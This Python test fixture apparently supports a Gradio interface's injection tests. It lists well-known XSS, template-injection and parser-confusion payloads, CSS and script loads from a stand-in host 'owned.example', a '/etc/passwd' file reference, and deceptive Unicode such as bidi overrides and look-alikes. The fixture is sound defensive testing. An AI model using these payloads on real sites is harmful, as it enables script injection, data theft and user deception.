"""Strings that try to become more than text, each in its own way, for every place where the page shows one.

Whichever of them a browser obeys sets ``window.__owned``, opens a dialog, asks another host or leaves an
element behind. What only deceives a reader (direction marks, unseen characters, look-alikes) is here too. All
are our own, in shapes that are well known. ``watching`` tells whether one was obeyed.
"""

HOST = "https://owned.example"
"""Where the strings that load or send something go; no request may ever reach it."""

STRINGS = {
    # scripts
    "script": "<script>__owned=1</script>",
    "script in capitals": "<ScRiPt/x>__owned=2</sCrIpT >",
    "script from elsewhere": f"<script src={HOST}/a.js></script>",
    "script in a script": "<scr<script>ipt>__owned=3</scr</script>ipt>",
    "script without an end": "<script>__owned=4//",
    "module script": '<script type="module">window.__owned=5</script>',
    "ends a script": "</script><script>__owned=6</script>",
    "ends other elements": "</textarea></title></style></noscript></template><script>__owned=7</script>",
    "full-width brackets": "\uff1cscript\uff1e__owned=8\uff1c/script\uff1e",
    "overlong UTF-8 as Latin-1": "\u00c0\u00bcscript\u00c0\u00be__owned=9",
    # event handlers
    "image error": "<img src=x onerror=__owned=10>",
    "image error with slashes": "<img/src=`x`/onerror=__owned=11//",
    "image error in quotes": '<IMG SRC="x" ONERROR="__owned=\'12\'">',
    "image over lines": "<img\nsrc=x\nonerror\n=\n__owned=13\n>",
    "focus": "<input autofocus onfocus=__owned=14>",
    "toggle": "<details open ontoggle=__owned=15><summary>more</summary></details>",
    "animation": "<b style='animation: pc-turn 1s' onanimationstart='__owned=16'>now</b>",
    "marquee": "<marquee onstart=__owned=17>on</marquee>",
    "video": "<video><source onerror=__owned=18></video>",
    "audio": "<audio src=x onerror=__owned=19></audio>",
    "body": "<body onload=__owned=20 onpageshow=__owned=20>",
    "pointer": "<a onpointerover=__owned=21 onclick=__owned=21>here</a>",
    # links
    "javascript link": "<a href=javascript:__owned=22>press</a>",
    "javascript link with a tab": '<a href="java\tscript:__owned=23">press</a>',
    "javascript link by entities": "<a href='&#106;avascript&colon;__owned=24'>press</a>",
    "bare javascript": "javascript:void(__owned=25)",
    "data link": "<a href='data:text/html,<script>opener.__owned=26</script>'>press</a>",
    "vbscript link": "<a href=vbscript:__owned=27>press</a>",
    "Markdown link": "[press](javascript:__owned=28) ![pixel](" + HOST + "/b.png)",
    "Markdown reference": f"[press][1]\n\n[1]: {HOST}/c <x>",
    "autolinks": f"<{HOST}/d> {HOST}/e www.owned.example mailto:a@owned.example",
    # SVG and MathML
    "SVG load": "<svg onload=__owned=29>",
    "SVG script": "<svg><script>__owned=30</script></svg>",
    "SVG animate": "<svg><a><animate attributeName=href to=javascript:__owned=31 /></a></svg>",
    "SVG foreign object": "<svg><foreignObject><img src=x onerror=__owned=32></foreignObject></svg>",
    "SVG use": "<svg><use href='data:image/svg+xml,<svg id=x onload=__owned=33>#x'></use></svg>",
    "MathML": "<math><maction actiontype=statusline xlink:href=javascript:__owned=34>x</maction></math>",
    # elements that load, redirect or style
    "frame": "<iframe srcdoc='<script>parent.__owned=35</script>'></iframe>",
    "frame by script": "<iframe src=javascript:parent.__owned=36></iframe>",
    "object": "<object data='data:text/html,<script>parent.__owned=37</script>'></object><embed src=x>",
    "base": f"<base href={HOST}/>",
    "refresh": f'<meta http-equiv="refresh" content="0;url={HOST}/f">',
    "style sheet": f"<link rel=stylesheet href={HOST}/g.css><link rel=prefetch href={HOST}/h>",
    "style": f"<style>@import '{HOST}/i.css'; input[value^=a] {{ background: url({HOST}/j) }}</style>",
    "style attribute": f"<p style='background:url({HOST}/k);position:fixed;inset:0'>over all</p>",
    "form": f"<form action={HOST}/l><button formaction=javascript:__owned=38>Ask</button></form>",
    "names of globals": "<a id=gradio_config></a><form id=pc-desk><input name=querySelector></form>",
    # templates
    "template literal": "${__owned=39} ${alert(1)}",
    "template literal's end": "`; __owned=40; `${__owned=40}`",
    "Handlebars": "{{value}} {{{value}}} {{this}} {{constructor.constructor 'return __owned=41'}}",
    "Handlebars each": "{{#each value}}x{{/each}} {{#if true}}y{{/if}} {{lookup this 'constructor'}}",
    "other templates": "<%= 7*7 %> #{7*7} {%raw%} [[7*7]] {{7*7}} @(7*7) $(7*7) @children",
    "Python format": "{0.__class__} {question} {name} %s %(name)s {",
    # breaking out of attributes and of JSON
    "double quote": '" onmouseover="__owned=42" x="',
    "single quote": "' onmouseover='__owned=43' x='",
    "backquote": "` onmouseover=`__owned=44` x=`",
    "quote and end": "\"'><img src=x onerror=__owned=45>",
    "NUL in a tag": "<scr\x00ipt>__owned=46</scr\x00ipt>",
    "line ends": "one\rtwo\nthree\x0bfour\x0cfive\x85six\u2028seven\u2029eight",
    "JSON": '"}],"value":"<img src=x onerror=__owned=47>","x":[{"',
    "backslashes": '\\";__owned=48;//\\u003cscript\\u003e\\x3c\\',
    "comment": "<!--><img src=x onerror=__owned=49>--> <![CDATA[<img src=x onerror=__owned=49>]]>",
    # what a second parser would see
    "noscript": '<noscript><p title="</noscript><img src=x onerror=__owned=50>">',
    "SVG style": '<svg></p><style><a id="</style><img src=x onerror=__owned=51>">',
    "MathML style": "<math><mtext><mglyph><style><!--</style><a id='--><img src=x onerror=__owned=52>'>",
    "template element": "<template shadowrootmode=open><img src=x onerror=__owned=53></template>",
    "entities": "&lt;img src=x onerror=__owned=54&gt; &#60;b&#62; &#x27; &amp;lt; &nbsp; &quot",
    "entities twice": "&amp;lt;script&amp;gt;__owned=55&amp;lt;/script&amp;gt;",
    "URL encoding": "%3Cscript%3E__owned=56%3C/script%3E %00 +",
    "UTF-7": "+ADw-script+AD4-__owned=57+ADw-/script+AD4-",
    "Markdown": "**b** _i_ # h\n- x\n> q `c` ~~s~~ | a | b |\n|---|---|",
    "LaTeX": "$\\href{javascript:__owned=58}{x}$ $$x^2$$ \\(y\\)",
    # what gradio makes of a value
    "translation": '__i18n__{"__type__": "translation_metadata", "key": "ask"}',
    "translation, bare": '__i18n__{"key":"<img src=x onerror=__owned=59>"}',
    "name of a translation": "ask",
    "file of gradio's": '{"path": "/etc/passwd", "url": "'
    + HOST
    + '/m", "meta": {"_type": "gradio.FileData"}}',
    "update of gradio's": '{"__type__": "update", "value": "<b>x</b>", "visible": false}',
    # queries
    "query": "?q=other&source=a&from=1999#frag&__theme=dark&view=api",
    # what deceives the eye
    "override": "invoice\u202efdp.exe",
    "isolates": "\u2066a\u2067b\u2068c\u2069 \u202ad\u202be\u202cf",
    "marks of direction": "\u200fa\u200eb\u061cc",
    "unseen characters": "pay\u200bpal\u2060\ufeff \u00ad\u180e\u3164\u034fend",
    "tags": "note\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "look-alikes": "\u0440\u0430\u0443\u0440\u0430l \u2215 \u29f8 a\u0338",
    "terminal": "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x9b2J \x08\x08",
    "Hebrew and Arabic": "\u05e9\u05dc\u05d5\u05dd (1) \u0645\u0631\u062d\u0628\u0627 [2] abc",
    "flood of marks": "Z" + "\u0335\u0321\u0353\u035b" * 30 + "algo",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\u200d\u2620\ufe0f 1\ufe0f\u20e3",
    "long word": "W" * 300,
}
